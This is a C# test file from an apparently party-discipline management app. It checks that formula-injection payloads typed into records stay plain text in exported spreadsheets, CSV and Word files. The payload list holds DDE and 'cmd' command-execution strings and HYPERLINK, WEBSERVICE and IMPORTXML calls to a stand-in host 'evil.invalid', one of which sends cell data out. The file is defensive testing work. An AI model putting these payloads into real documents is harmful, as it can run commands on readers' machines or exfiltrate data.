using System.Globalization;
using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using Microsoft.AspNetCore.Hosting;
using PartyDiscipline.Host.Access;
using PartyDiscipline.Kernel.Access;
using PartyDiscipline.Kernel.Documents;
using PartyDiscipline.Kernel.Records;
using PartyDiscipline.Responsibilities;
using PartyDiscipline.Responsibilities.Organisation;
using PartyDiscipline.Tests.Common;

namespace PartyDiscipline.Tests.Assurance;

/// <summary>
/// T25: what somebody typed stays text in every file that the product makes of it, whatever a spreadsheet would make of it; and no file tells a reader
/// a column that no page of his tells. Formulas are recorded as titles, names and texts; every file that any page offers is taken and read by a reader
/// that is not ours. A night asks LibreOffice too.
/// </summary>
public sealed partial class ExportTests
{
    static CancellationToken Cancel => TestContext.Current.CancellationToken;

    static readonly XNamespace Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    /// <summary>Signs that begin a formula, alone and behind what hides them.</summary>
    static readonly string[] Begins =
        ["=", "+", "-", "@", "\t=", "\n=", " =", "\u00A0=", "\u3000=", "\u200B=", "\uFEFF=", "\u0001=", "\u001F@", "＝", "＋", "－", "＠", "=+", "-+", "=-@", "\"=", "'="];

    static readonly string[] Runs =
        ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"看\")", "WEBSERVICE(\"http://evil.invalid/\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "IMPORTXML(\"http://evil.invalid\",\"//a\")", "SUM(1+9)*cmd|' /C calc'!A0"];

    internal static IReadOnlyList<string> Payloads { get; } = [.. Begins.SelectMany(_ => Runs, (begin, run) => begin + run)];

    [Fact]
    public async Task What_was_typed_is_text_in_every_file_and_no_file_tells_more_than_the_pages()
    {
        Assert.True(Payloads.Count >= 100, $"{Payloads.Count} payloads.");
        static void Often(IWebHostBuilder web) => web.UseSetting("Desk:FeedsPerMinute", "10000");
        await using var world = await World.Build(configure: Often);
        var recorded = await Record(world);
        Assert.True(recorded >= 100, $"Only {recorded} payloads were recorded.");
        var columns = await Plant(world);
        // Nothing is remembered from before the marks.
        await world.Restart(Often);
        Assert.True(columns.Count > 60, $"Only {columns.Count} columns hold typed text.");

        var (wrong, files, cells, seen) = (new List<string>(), new Dictionary<string, int>(), 0, new HashSet<string>());
        var (kept, told) = (new List<(string Name, byte[] Content)>(), new List<string>());
        string[] tenants = Tier.Name == "commit" ? [World.A] : [World.A, World.Bureau];
        foreach (var tenant in tenants)
            foreach (var role in Tier.Name == "commit" ? OfCommit : [.. Roles.All])
            {
                using var client = await world.As(tenant, role);
                var (onPages, links) = await Walk(world, client, tenant, role);
                var inFiles = new Dictionary<string, string>();
                foreach (var link in links)
                {
                    using var answer = await client.GetAsync(link, Cancel);
                    if (!answer.IsSuccessStatusCode) continue; // That links lead somewhere is the suite of links' matter.
                    var content = await answer.Content.ReadAsByteArrayAsync(Cancel);
                    var kind = KindOf(answer.Content.Headers.ContentType?.MediaType);
                    files[kind] = files.GetValueOrDefault(kind) + 1;
                    foreach (var (name, part) in Unpacked(link, kind, content))
                    {
                        var (said, faults, count) = Read(part.Kind, part.Content);
                        wrong.AddRange(faults.Select(f => $"{role} {name}: {f}"));
                        cells += count;
                        seen.UnionWith(Payloads.Where(p => said.Contains(Written(p), StringComparison.Ordinal)));
                        foreach (var mark in Mark().Matches(said).Select(m => m.Value)) inFiles.TryAdd(mark, name);
                        if (part.Kind is "xlsx" or "csv") kept.Add((name, part.Content));
                    }
                }
                told.AddRange(inFiles.Where(f => !onPages.Contains(f.Key)).Select(f => $"{tenant} {role}: {f.Value.Split('/')[^2]} tells {columns[f.Key]}"));
            }
        wrong.AddRange(await Feeds(world));
        Assert.True(wrong.Count == 0, string.Join('\n', wrong.Take(40)));
        Assert.True(cells >= 300 && seen.Count >= 100, $"Only {cells} cells with payloads were seen, of {seen.Count} payloads.");
        Assert.True(files.GetValueOrDefault("xlsx") > 20 && files.GetValueOrDefault("csv") > 10 && files.GetValueOrDefault("docx") > 10, string.Join(", ", files));
        Assert.True(told.Distinct().Order(StringComparer.Ordinal).All(t => Beyond.Any(b => t.EndsWith(b, StringComparison.Ordinal))), string.Join('\n', told.Distinct().Order(StringComparer.Ordinal)));
        var opened = Tier.Name == "commit" ? "" : $"; LibreOffice opened {Opened(kept)} of them and computed none";
        Figure.Write("T25", "files", $"{Payloads.Count} formulas recorded, {seen.Count} of them found again in {cells:N0} cells and lines of {string.Join(", ", files.OrderBy(f => f.Key).Select(f => $"{f.Value} {f.Key}"))}: no formula cell, no field, no line of another's; {columns.Count} columns of typed text, none told by a file and by no page{opened}");
    }

    [Fact]
    public void Every_begin_of_a_formula_is_marked_in_a_head_and_in_a_cell_of_every_format()
    {
        foreach (var payload in Payloads)
        {
            var workbook = new Workbook { FileName = "a", Sheets = [new Sheet { Name = payload, Title = payload, Columns = [new(payload, 10), new("列", 10)], Rows = [[payload, -1.5m], [payload, payload]] }] };
            var (_, faults, cells) = Read("xlsx", PartyDiscipline.Host.Documents.Xlsx.Write(workbook));
            Assert.Empty(faults);
            Assert.True(payload.StartsWith('"') || payload.StartsWith('\'') || cells == 5, $"{payload}: {cells} cells");
            (_, faults, _) = Read("csv", PartyDiscipline.Host.Documents.Csv.Write(workbook));
            Assert.Empty(faults);
        }
        // The other maker of workbooks, whose rows come back to be mended.
        var plan = new ImportPlan { People = [.. Payloads.Select(p => new PersonVerdict(new OrganisationFile.PersonRow(p, p, p), Verdict.Faulty, [new Fault("number", "x")]))], Parties = [] };
        Assert.Empty(Read("xlsx", OrganisationWorkbook.Faulty(plan, f => f.Rule), marked: false).Faults);
    }

    /// <summary>Through the product: titles of what was done, names of people and of parties.</summary>
    static async Task<int> Record(World world)
    {
        using var secretary = await world.As(World.A, Roles.Secretary);
        var (token, recorded) = (await World.TokenOn(secretary), 0);
        foreach (var payload in Payloads)
            if ((await Recording.Post(secretary, World.A, token, Guid.NewGuid(), payload, World.Today.AddDays(-recorded % 20), Cancel)).Status == 200) recorded++;
        var people = new OrganisationFile { People = [.. Payloads.Take(40).Select((p, i) => new OrganisationFile.PersonRow($"F{i:000}", p, p))], Parties = [] };
        Assert.IsType<Outcome.Done>(await world.Host.Get<IOrganisation>().Import(Actor.System(World.A), Guid.NewGuid(), people));
        return recorded;
    }

    /// <summary>
    /// What this small world does not hold a hundred times: every column with a text that somebody typed gets a payload in front, and a mark that says which
    /// column it is.
    /// </summary>
    static async Task<IReadOnlyDictionary<string, string>> Plant(World world)
    {
        var (columns, next) = (new Dictionary<string, string>(), 0);
        foreach (var table in (await RawSql.Query(world.Host.Database, "SELECT name FROM sqlite_master WHERE type = 'table'")).Select(r => (string)r[0]!).Where(t => !t.StartsWith("ledger_", StringComparison.Ordinal) && !t.StartsWith("search_", StringComparison.Ordinal) && !t.StartsWith("sqlite_", StringComparison.Ordinal)))
            foreach (var column in (await RawSql.Query(world.Host.Database, $"PRAGMA table_info(\"{table}\")")).Select(r => (string)r[1]!))
            {
                if ((await RawSql.Query(world.Host.Database, $"SELECT 1 FROM \"{table}\" WHERE typeof(\"{column}\") = 'text' AND \"{column}\" LIKE '%Canary%' AND substr(\"{column}\", 1, 1) NOT IN ('{{', '[') LIMIT 1")).Count == 0) continue;
                var mark = $"ƒ{++next}ƒ";
                columns[mark] = $"{table}.{column}";
                var rows = await RawSql.Query(world.Host.Database, $"SELECT rowid FROM \"{table}\" WHERE \"{column}\" LIKE '%Canary%' AND substr(\"{column}\", 1, 1) NOT IN ('{{', '[')");
                foreach (var (row, i) in rows.Select((r, i) => (r[0], i)))
                    await RawSql.Execute(world.Host.Database, $"UPDATE \"{table}\" SET \"{column}\" = @p0 || \"{column}\" WHERE rowid = @p1", $"{Payloads[(next * 7 + i) % Payloads.Count]}{mark}", row);
            }
        return columns;
    }

    /// <summary>Every page that somebody gets at, each kind of page a few times: the marks that he reads there, and the files that they offer him.</summary>
    static async Task<(HashSet<string> Marks, IReadOnlyList<string> Links)> Walk(World world, HttpClient client, string tenant, string role)
    {
        var held = world.Host.Get<RightsTable>().Of([role]);
        var ids = await Values.Ids(world.Host.Services, tenant, ofEach: 1);
        var (marks, links, visits) = (new HashSet<string>(), new Dictionary<string, string>(), new Dictionary<string, int>());
        var ahead = new Queue<string>((await Inventory.Of(world.Host.Services)).Where(d => d is { Method: "GET", Handler: null, IsApi: false } && held.Contains(d.Permission ?? "") && !d.Parameters.Any(Values.IsId)).Select(d => d.Address(p => Values.Own(p, tenant, ids[0]))));
        var known = new HashSet<string>(ahead);
        while (ahead.TryDequeue(out var address))
        {
            var shape = Particular().Replace(address.Split('?')[0], "*");
            if (visits.GetValueOrDefault(shape) >= (Tier.Name == "commit" ? 2 : 4)) continue;
            visits[shape] = visits.GetValueOrDefault(shape) + 1;
            var html = WebUtility.HtmlDecode(await client.GetStringOrEmpty(address));
            foreach (var mark in Mark().Matches(html).Select(m => m.Value)) marks.Add(mark);
            foreach (var link in Href().Matches(html).Select(m => m.Groups[1].Value.Split('#')[0]).Where(l => l.StartsWith('/') && !l.StartsWith("//", StringComparison.Ordinal)))
                if (Rooms.Any(r => link.StartsWith(r, StringComparison.Ordinal)))
                {
                    // One file of each kind and format; a PDF is the same text as the Word file beside it.
                    if (!link.EndsWith(".pdf", StringComparison.Ordinal)) links.TryAdd($"{link.Split('/')[1]}/{link.Split('/')[2]}{Path.GetExtension(link)}", link);
                }
                else if (!LeftOut.Any(l => link.StartsWith(l, StringComparison.Ordinal)) && known.Add(link)) ahead.Enqueue(link);
        }
        return (marks, [.. links.Values]);
    }

    /// <summary>Those who between them are offered every kind of file.</summary>
    static readonly string[] OfCommit = [Roles.PoliticalOfficer, Roles.DisciplineOfficer, Roles.Secretary, Roles.Member];

    static readonly string[] Rooms = ["/documents/", "/sheets/", "/evidence/"];
    static readonly string[] LeftOut = ["/_content/", "/lib/", "/css/", "/js/", "/img/", "/Me/SignOut", "/preferences/", "/feed/"];

    /// <summary>What a paper tells though no page that a walk comes by shows it: whose letter it is, who signed it, or signed for it. A paper without that is none.</summary>
    static readonly string[] Beyond =
    [
        "duty-report tells reports_duty_reports.AuthorName", "duty-reports tells reports_duty_reports.AuthorName", "reporting-publication tells reports_publications.CheckedByName", "reporting-publication tells reports_publications.ApprovedByName",
        "accountability-notice tells accountability_decisions.ReceivedByName", "inspection-notice tells responsibilities_parties.NameZh",
    ];

    static async Task<IReadOnlyList<string>> Feeds(World world)
    {
        var wrong = new List<string>();
        foreach (var role in (string[])[Roles.Secretary, Roles.PoliticalOfficer, Roles.DisciplineOfficer])
        {
            using var client = await world.As(World.A, role);
            var answer = await (await PageForm.Find(client, "/Me/Reminders", "Feed", cancel: Cancel))!.Send(Cancel);
            var shown = answer.Location is { } next ? await client.GetStringAsync(next, Cancel) : answer.Body;
            if (Feed().Match(shown) is not { Success: true } address || FeedKey().Match(shown) is not { Success: true } key)
            {
                wrong.Add($"{role} is told no address and no key of his calendar");
                continue;
            }
            using var asked = new HttpRequestMessage(HttpMethod.Get, new Uri(address.Value).PathAndQuery) { Headers = { Authorization = new("Basic", Convert.ToBase64String(Encoding.UTF8.GetBytes($"calendar:{key.Groups[1].Value}"))) } };
            using var calendar = await client.SendAsync(asked, Cancel);
            foreach (var line in (await calendar.Content.ReadAsStringAsync(Cancel)).Replace("\r\n ", "", StringComparison.Ordinal).Split("\r\n", StringSplitOptions.RemoveEmptyEntries))
                if (!Property().IsMatch(line)) wrong.Add($"the calendar of {role} has the line {line}");
        }
        return wrong;
    }

    static string KindOf(string? type) => type switch
    {
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" => "xlsx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document" => "docx",
        "text/csv" => "csv",
        "application/zip" => "zip",
        _ => type ?? "nothing",
    };

    static IEnumerable<(string Name, (string Kind, byte[] Content) Part)> Unpacked(string name, string kind, byte[] content)
    {
        if (kind != "zip") return [(name, (kind, content))];
        return [.. HostileFiles.Parts(content).Select(p => ($"{name}/{p.Name}", (Path.GetExtension(p.Name).TrimStart('.'), p.Content)))];
    }

    /// <summary>What a file says, what in it is more than text, and how many of its cells begin as a formula does.</summary>
    static (string Said, IReadOnlyList<string> Faults, int Cells) Read(string kind, byte[] content, bool marked = true) => kind switch
    {
        "xlsx" => Workbook(content, marked),
        "csv" => Lines(Encoding.UTF8.GetString(content).TrimStart('\uFEFF')),
        "docx" => Document(content),
        _ => (Encoding.UTF8.GetString(content), [], 0),
    };

    static (string, IReadOnlyList<string>, int) Workbook(byte[] content, bool marked)
    {
        var (said, faults, cells) = (new StringBuilder(), new List<string>(), 0);
        var parts = HostileFiles.Parts(content).ToDictionary(p => p.Name, p => p.Content);
        var quoted = XDocument.Load(new MemoryStream(parts["xl/styles.xml"])).Descendants(Main + "cellXfs").Elements(Main + "xf").Select(x => (string?)x.Attribute("quotePrefix") is "1" or "true").ToList();
        var shared = parts.TryGetValue("xl/sharedStrings.xml", out var strings) ? XDocument.Load(new MemoryStream(strings)).Root!.Elements(Main + "si").Select(s => s.Value).ToList() : [];
        foreach (var (name, part) in parts.Where(p => p.Key.StartsWith("xl/worksheets/", StringComparison.Ordinal) && p.Key.EndsWith(".xml", StringComparison.Ordinal)))
            foreach (var cell in XDocument.Load(new MemoryStream(part)).Descendants(Main + "c"))
            {
                var type = (string?)cell.Attribute("t");
                var text = type == "s" ? shared[int.Parse(cell.Value, CultureInfo.InvariantCulture)] : cell.Value;
                said.Append(text).Append('\n');
                if (cell.Element(Main + "f") is { } formula) faults.Add($"{name} {(string?)cell.Attribute("r")} is the formula {formula.Value}");
                if (!Formula(text) || double.TryParse(text, CultureInfo.InvariantCulture, out _)) continue;
                cells++;
                if (type is not ("inlineStr" or "s" or "str")) faults.Add($"{name} {(string?)cell.Attribute("r")} is no text: {text}");
                if (marked && !quoted[(int?)cell.Attribute("s") ?? 0]) faults.Add($"{name} {(string?)cell.Attribute("r")} is a formula once it is edited: {text}");
            }
        foreach (var part in parts.Keys.Where(p => p.Contains("externalLink", StringComparison.Ordinal) || p.Contains("connections", StringComparison.Ordinal))) faults.Add($"has {part}");
        return ($"{said}", faults, cells);
    }

    static (string, IReadOnlyList<string>, int) Lines(string text)
    {
        var (faults, cells, cell, within) = (new List<string>(), 0, new StringBuilder(), false);
        for (var i = 0; i <= text.Length; i++)
        {
            if (i < text.Length && text[i] == '"')
            {
                if (within && i + 1 < text.Length && text[i + 1] == '"') cell.Append(text[i++]);
                else within = !within;
                continue;
            }
            if (i < text.Length && (within || text[i] is not (',' or '\r' or '\n')))
            {
                cell.Append(text[i]);
                continue;
            }
            var value = $"{cell}";
            cell.Clear();
            if (value.StartsWith('\'') && Formula(value[1..])) cells++;
            else if (Formula(value) && !decimal.TryParse(value, CultureInfo.InvariantCulture, out _)) faults.Add($"a cell is the formula {value}");
        }
        return (text, faults, cells);
    }

    static (string, IReadOnlyList<string>, int) Document(byte[] content)
    {
        var (said, faults) = (new StringBuilder(), new List<string>());
        foreach (var (name, part) in HostileFiles.Parts(content).Where(p => p.Name.EndsWith(".xml", StringComparison.Ordinal) || p.Name.EndsWith(".rels", StringComparison.Ordinal)))
        {
            var document = XDocument.Load(new MemoryStream(part));
            if (name.StartsWith("word/", StringComparison.Ordinal)) said.Append(document.Root!.Value).Append('\n');
            foreach (var field in document.Descendants().Where(e => e.Name.LocalName == "instrText").Select(e => e.Value).Concat(document.Descendants().Attributes().Where(a => a.Name.LocalName == "instr").Select(a => a.Value)))
                if (Payloads.Any(field.Contains) || field.Contains("DDE", StringComparison.OrdinalIgnoreCase)) faults.Add($"{name} has the field {field}");
            foreach (var outside in document.Descendants().Where(e => (string?)e.Attribute("TargetMode") == "External")) faults.Add($"{name} leads to {(string?)outside.Attribute("Target")}");
        }
        return ($"{said}", faults, Mark().Count($"{said}"));
    }

    /// <summary>As a spreadsheet sees it: blanks and signs without width before it do not help.</summary>
    static bool Formula(string text) => text.TrimStart(' ', '\t', '\r', '\n', '\u00A0', '\u3000', '\u200B', '\uFEFF') is [var first, ..] && "=+-@＝＋－＠".Contains(first, StringComparison.Ordinal) && text.Trim().Length > 1;

    /// <summary>A payload as a file may write it: without control characters.</summary>
    static string Written(string payload) => string.Concat(payload.Where(c => c is '\t' or '\n' or >= ' ')).Trim();

    /// <summary>Opens every table in LibreOffice and counts what it computes; none.</summary>
    static int Opened(List<(string Name, byte[] Content)> files)
    {
        Assert.SkipUnless(File.Exists("/usr/bin/soffice"), "LibreOffice is not installed; eng/assurance.sh installs it.");
        var folder = Directory.CreateTempSubdirectory("party-discipline-office-");
        try
        {
            var profile = $"-env:UserInstallation=file://{folder.FullName}/profile";
            foreach (var ((name, content), i) in files.Select((f, i) => (f, i))) File.WriteAllBytes(Path.Combine(folder.FullName, $"{i}{Path.GetExtension(name)}"), content);
            foreach (var xlsx in Directory.GetFiles(folder.FullName, "*.xlsx").Chunk(50)) Shell.Run("/usr/bin/soffice", [profile, "--headless", "--convert-to", "fods", "--outdir", folder.FullName, .. xlsx]);
            // Commas, quotes, UTF-8; every cell as typed by hand, formulas computed.
            foreach (var csv in Directory.GetFiles(folder.FullName, "*.csv").Chunk(50)) Shell.Run("/usr/bin/soffice", [profile, "--headless", "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true", "--convert-to", "fods", "--outdir", folder.FullName, .. csv]);
            var opened = Directory.GetFiles(folder.FullName, "*.fods");
            foreach (var file in opened)
                Assert.False(File.ReadAllText(file) is var text && text.Contains("table:formula=", StringComparison.Ordinal), $"{files[int.Parse(Path.GetFileNameWithoutExtension(file).Split('-')[0], CultureInfo.InvariantCulture)].Name}: {Regex.Match(File.ReadAllText(file), "table:formula=\"[^\"]*\"", RegexOptions.None, TimeSpan.FromSeconds(5)).Value}");
            Assert.True(opened.Length >= files.Count / 2, $"LibreOffice opened {opened.Length} of {files.Count} files.");
            return opened.Length;
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    [GeneratedRegex("ƒ\\d+ƒ")]
    private static partial Regex Mark();

    [GeneratedRegex("<a\\b[^>]*?\\shref=\"([^\"]*)\"")]
    private static partial Regex Href();

    [GeneratedRegex("(?<=[/=])(?:[0-9a-f]{8}-[0-9a-f-]{27}|[0-9a-f]{32}|\\d+|(?:bureau|sample\\d)(?:\\.[\\w-]+)*)(?=[/&?]|$)", RegexOptions.IgnoreCase)]
    private static partial Regex Particular();

    [GeneratedRegex("https?://[^\\s\"<]+/feed/[^\\s\"<]+\\.ics")]
    private static partial Regex Feed();

    [GeneratedRegex("<code[^>]*>([0-9a-f]{48})</code>")]
    private static partial Regex FeedKey();

    [GeneratedRegex("^(?:BEGIN|END|VERSION|PRODID|METHOD|CALSCALE|UID|SUMMARY|DTSTART|DTEND|DTSTAMP|DURATION|TRANSP|URL|SEQUENCE|DESCRIPTION|X-WR-CALNAME|X-WR-TIMEZONE)[;:]")]
    private static partial Regex Property();
}
